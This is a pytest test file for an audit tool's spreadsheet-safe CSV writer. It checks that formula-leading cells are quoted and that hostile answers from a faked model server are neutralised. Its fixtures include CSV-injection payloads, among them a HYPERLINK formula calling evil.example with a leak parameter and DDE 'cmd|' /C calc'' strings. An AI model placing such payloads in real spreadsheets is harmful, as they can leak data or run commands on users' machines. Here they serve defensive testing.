"""audit.csvio: spreadsheet-safe CSV (formula neutralisation), write_csv and CsvWriter, and a
hostile model answer reaching a run's own responses.csv through the fake server."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from audit.csvio import CsvWriter, neutralise, safe_frame, write_csv
from audit.errors import InputError
from audit.fakeserver import FakeOpenAI


def raw_rows(path: Path) -> list[list[str]]:
    """The CSV's cells as the text a spreadsheet would get (no type guessing)."""
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("cell", [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\0=1+1", "-1+1", "+1+1", "=", "-", "+", "@", "--1", "-1-",
    "-1e5e5", "- 1", "+.", "-1,5",
])
def test_a_dangerous_first_character_gets_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "-1", "+1", "-1.5", "+0.25", "-.5", "1e5", "-1.5E-3", "42",  # plain numbers stay numbers
    " =1+1", " -1+1", "a=1", "Sure, =1+1", "'=1", "", "1+1", "x\n=1",  # not at the start (OWASP)
])
def test_numbers_and_harmless_text_are_kept(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", [-1, -1.5, 0, 3.25, None, True])
def test_non_strings_are_never_touched(value: object) -> None:
    assert neutralise(value) is value


def test_write_csv_quotes_formulas_and_keeps_negative_numbers_numeric(tmp_path: Path) -> None:
    df = pd.DataFrame({
        "text": ["=1+1", "-1+1", "-7", "ok", "\t@x"],
        "num": [-1.5, 2.0, -3.0, 0.0, -0.25],
        "count": [-1, 2, 3, -4, 5],
        "string": pd.array(["+1", "+x", None, "@a", " =2"], dtype="string"),
    })
    path = write_csv(df, tmp_path / "out.csv")
    rows = raw_rows(path)
    assert rows[0] == ["text", "num", "count", "string"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'-1+1", "-7", "ok", "'\t@x"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "0.0", "-0.25"]
    assert [r[2] for r in rows[1:]] == ["-1", "2", "3", "-4", "5"]
    assert [r[3] for r in rows[1:]] == ["+1", "'+x", "", "'@a", " =2"]
    text = path.read_text(encoding="utf-8")
    assert "\n-1+" not in text and ",-1.5,-1," in text  # numbers written bare, not quoted
    back = pd.read_csv(path)
    assert back["num"].dtype == float and back["num"].tolist() == [-1.5, 2.0, -3.0, 0.0, -0.25]
    assert back["count"].dtype == "int64" and back["count"].min() == -4
    assert df["text"].tolist()[0] == "=1+1"  # the caller's frame is not modified
    assert not (tmp_path / "out.csv.tmp").exists()


def test_safe_frame_leaves_numeric_columns_alone() -> None:
    df = pd.DataFrame({"x": [-1, -2], "s": ["-1", "=A1"]})
    out = safe_frame(df)
    assert out["x"].tolist() == [-1, -2] and out["x"].dtype == df["x"].dtype
    assert out["s"].tolist() == ["-1", "'=A1"]


def test_write_csv_into_a_missing_folder_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="does not exist"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "nope" / "out.csv")


def test_csv_writer_neutralises_every_chunk_and_writes_one_header(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with CsvWriter(path, ["a", "n"]) as out:
        out.write(pd.DataFrame({"a": ["=1", "fine"], "n": [-1, 2]}))
        out.write(pd.DataFrame({"a": ["@cmd", "-2"], "n": [-3, 4]}))
        assert not path.exists()  # written to a temp file, renamed on a clean exit
    assert out.rows == 4
    assert raw_rows(path) == [["a", "n"], ["'=1", "-1"], ["fine", "2"], ["'@cmd", "-3"], ["-2", "4"]]


def test_csv_writer_edge_cases(tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    with CsvWriter(empty, ["a", "b"]):
        pass
    assert raw_rows(empty) == [["a", "b"]]
    with pytest.raises(ValueError, match="differ"), CsvWriter(tmp_path / "x.csv") as out:
        out.write(pd.DataFrame({"a": [1]}))
        out.write(pd.DataFrame({"b": [1]}))
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "x.csv.tmp").exists()
    with pytest.raises(InputError, match="does not exist"):
        CsvWriter(tmp_path / "nope" / "x.csv")


HOSTILE = {
    "taxes": '=HYPERLINK("http://evil.example/?leak=1","Click for the full answer")',
    "guns": "@SUM(1+1)*cmd|' /C calc'!A0",
    "energy": "-2+3+cmd|' /C calc'!A0",
    "borders": "\t=1+1 and then some words of an answer",
}


def test_a_hostile_answer_is_neutralised_in_the_runs_responses_csv(tmp_path: Path) -> None:
    from audit import run as pl
    from audit.config import build_config
    from audit.send._runner import RetryPolicy
    from tests.support.prompt_sets import mini_set

    prompts = mini_set(tmp_path / "set.jsonl", topics=tuple(HOSTILE), refuse_b=())
    script = {f"{topic} should be expanded": f"say:{text}" for topic, text in HOSTILE.items()}
    with FakeOpenAI(script=script) as server:
        cfg = build_config({"prompts": str(prompts), "reports_dir": str(tmp_path / "reports"),
                            "targets": [{"base_url": server.url, "model": "fake-model", "name": "fake"}]})
        plan, _ = pl.run_audit(cfg, {"fake": None}, policy=RetryPolicy(max_retries=1, base_delay=0.01))
    rows = raw_rows(plan.run_dir / "responses.csv")
    header, body = rows[0], rows[1:]
    answer, prompt = header.index("answer"), header.index("prompt")
    hostile = {r[answer]: r for r in body if " should be expanded" in r[prompt]}
    assert sorted(hostile) == sorted("'" + text for text in HOSTILE.values())
    assert len([r for r in body if " should be expanded" in r[prompt]]) == 2 * len(HOSTILE)
    assert not any(cell.startswith(("=", "@", "+", "\t")) for r in body for cell in r)
    assert all(not c.startswith("-") or c.lstrip("-").replace(".", "").isdigit() for r in body for c in r)
    latency, attempts = header.index("latency_s"), header.index("attempts")
    assert all(float(r[latency]) >= 0 and r[attempts] == "1" for r in body)  # numbers stay bare


HOSTILE_CELLS = ["=1+1", "-2", "@x", "\tx", "\0x", "+3.5", "-1+1", "ok", "", "'=x", "=x", "\r=1"]


def test_a_categorical_column_is_neutralised_like_text_byte_for_byte(tmp_path: Path) -> None:
    cells = HOSTILE_CELLS * 3
    plain = pd.DataFrame({"text": pd.Series(cells, dtype=object), "n": range(len(cells)),
                          "flag": [i % 2 == 0 for i in range(len(cells))]})
    compact = plain.assign(text=pd.Categorical(cells))  # "=x" and "'=x" collide once quoted
    unused = plain.assign(text=pd.Categorical(cells, categories=["@unused", *dict.fromkeys(cells)]))
    missing = plain.assign(text=pd.Categorical([None, *cells[1:]]))
    want = write_csv(plain, tmp_path / "plain.csv").read_bytes()
    assert write_csv(compact, tmp_path / "compact.csv").read_bytes() == want
    assert write_csv(unused, tmp_path / "unused.csv").read_bytes() == want
    assert [r[0] for r in raw_rows(tmp_path / "plain.csv")[1:12]] == [
        "'=1+1", "-2", "'@x", "'\tx", "'\0x", "+3.5", "'-1+1", "ok", "", "'=x", "'=x"]
    assert b"\n'\r=1," in want
    assert raw_rows(write_csv(missing, tmp_path / "missing.csv"))[1][0] == ""
    assert compact["text"].tolist() == cells  # the caller's frame is not modified


def test_safe_frame_shares_the_columns_it_does_not_change() -> None:
    df = pd.DataFrame({"n": np.arange(5), "s": ["=a", "b", "c", "d", "e"],
                       "c": pd.Categorical(["@x", "y", "@x", "y", "y"])})
    out = safe_frame(df)
    assert np.shares_memory(out["n"].to_numpy(), df["n"].to_numpy())
    assert out["s"].tolist() == ["'=a", "b", "c", "d", "e"] and df["s"].iloc[0] == "=a"
    assert isinstance(out["c"].dtype, pd.CategoricalDtype)  # neutralised once per category
    assert out["c"].tolist() == ["'@x", "y", "'@x", "y", "y"] and df["c"].iloc[0] == "@x"
